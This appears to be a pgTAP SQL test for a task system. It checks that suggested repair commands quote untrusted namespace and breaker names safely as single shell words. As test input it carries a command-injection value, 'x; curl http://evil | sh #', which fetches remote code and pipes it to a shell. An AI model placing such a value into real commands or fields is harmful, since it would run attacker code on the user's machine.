begin;
\ir ../fixtures.psql
select plan(3);
select from tasker.create_namespace('test');
select tasker.report_runner('r1', pg_temp.a_report('["x; curl http://evil | sh #", "test"]'));
select pg_temp.later('14 minutes');
select results_eq('select cure from tasker.problems where code = ''runner_lost''',
  $$ values ('tasker-sql run --namespace test --handlers MODULE') $$,
  'only namespaces that exist are named');
select tasker.report_runner('r1', pg_temp.a_report(p_more =>
  '{"breakers": [{"breaker": "x; curl http://evil | sh #", "state": "open", "forced": "open", '
  '"changed_ago": 5}]}'));
select results_eq('select cure from tasker.problems where code = ''breaker_open''',
  $$ values ('tasker-sql runner release ''x; curl http://evil | sh #'' --reason ''<why>''') $$,
  'what may be anything is one word');
select results_eq($$ select tasker._shell_word(word)
  from unnest(array['a-b_c', '', 'it''s', '$(x)', e'a\nb']) as word $$,
  $$ values ('a-b_c'), (''''''), ('''it''\''''s'''), ('''$(x)'''), (e'''a\nb''') $$,
  'whatever is in it');

select * from finish();
rollback;
